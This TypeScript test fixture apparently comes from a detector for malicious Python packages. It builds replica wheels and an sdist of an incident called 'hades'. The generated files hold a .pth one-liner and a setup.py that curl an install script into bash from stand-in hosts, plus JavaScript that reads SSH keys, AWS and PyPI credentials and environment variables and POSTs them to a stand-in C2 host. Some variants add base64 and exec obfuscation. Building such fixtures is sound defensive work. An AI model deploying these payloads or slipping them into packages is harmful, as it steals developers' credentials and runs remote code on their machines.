import { bundle } from '../bulk';
import { casesOf, type Facts } from '../case';
import { stringArray } from '../disguise/javascript';
import { base64 } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const oneLiner = (host: string, script: string) =>
  `import os,sys,subprocess as s,tempfile as t;p=os.path.join(t.gettempdir(),'.bun');b=os.path.join(p,'bin','bun');os.path.exists(b) or s.run('curl -fsSL https://${host}/install | BUN_INSTALL='+p+' bash',shell=True,stdout=s.DEVNULL,stderr=s.DEVNULL);os.path.exists(b) and s.Popen([b,'run',os.path.join(os.path.dirname(os.path.abspath(sys.modules['site'].__file__)),'site-packages','${script}')],start_new_session=True,stdout=s.DEVNULL,stderr=s.DEVNULL)\n`;

const script = (host: string) => String.raw`
const fs = require('fs');
const os = require('os');
const names = ['/.pypirc', '/.netrc', '/.aws/credentials', '/.ssh/id_rsa', '/.jupyter/jupyter_server_config.json'];
const loot = {};
for (const name of names) {
  try { loot[name] = fs.readFileSync(os.homedir() + name, 'utf8'); } catch (absent) {}
}
fetch('https://${host}/h', { method: 'POST', body: JSON.stringify({ loot: loot, env: process.env }) }).catch(() => {});
`;

const FACTS: Facts = {
  now: '2026-06-08T12:00:00Z',
  publishedAt: '2026-06-08T09:00:00Z',
  firstPublishedAt: '2022-04-01T00:00:00Z',
  previousPublishedAt: '2025-11-02T00:00:00Z',
  publisher: 'maintainer-token',
  previousPublisher: 'maintainer-token',
};
const ABOUT = 'Records with a schema.';

export const hades = casesOf({
  id: 'hades',
  incident: 'hades',
  kind: 'pth',
  seen: 'a *-setup.pth file of one line downloads another runtime and runs JavaScript of the wheel with it at every start of Python',
  replica: {
    sample: wheelOf('record-schema', '1.5.2', () => ({
      about: ABOUT,
      files: {
        'record_schema-setup.pth': oneLiner('bun-sh.invalid', 'record_schema/_index.js'),
        'record_schema/_index.js': `${bundle('hades', 600_000)}${stringArray(script('hades-c2.invalid'), 'hades')}\n`,
      },
    })),
    previous: wheelOf('record-schema', '1.5.1', { about: ABOUT }),
    facts: FACTS,
  },
  renamed: wheelOf('frame-tools', '0.3.8', () => ({
    about: 'Frames of data.',
    files: {
      'frame_tools-setup.pth': oneLiner('runtime-official.invalid', 'frame_tools/assets/app.mjs').replace(
        /\bp\b(?=[=,)+])/g,
        'home',
      ),
      'frame_tools/assets/app.mjs': `import { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\n${script('frames-io.invalid')}`,
    },
  })),
  reObfuscated: wheelOf('record-schema', '1.5.3', () => ({
    about: ABOUT,
    files: {
      'record_schema-setup.pth': `import builtins;getattr(builtins,'e'+'xec')(__import__('base64').b64decode('${base64(oneLiner('bun-sh.invalid', 'record_schema/_index.js'))}'))\n`,
      'record_schema/_index.js': `${stringArray(script('hades-c2.invalid'), 'hades2', true)}\n`,
    },
  })),
  otherStage: {
    kind: 'setup-py',
    seen: 'setup.py downloads another runtime and runs JavaScript of the sdist with it',
    sample: sdistOf('record-schema', '1.5.4', () => ({
      about: ABOUT,
      setup: (honest) => `import os
import subprocess
import tempfile

home = os.path.join(tempfile.gettempdir(), ".bun")
subprocess.call("curl -fsSL https://bun-sh.invalid/install | BUN_INSTALL=%s bash" % home, shell=True)
if os.path.exists(os.path.join(home, "bin", "bun")):
    subprocess.Popen([os.path.join(home, "bin", "bun"), "run", "tools/_index.js"], start_new_session=True)
${honest}`,
      files: { 'tools/_index.js': `${stringArray(script('hades-c2.invalid'), 'hades')}\n` },
    })),
  },
});
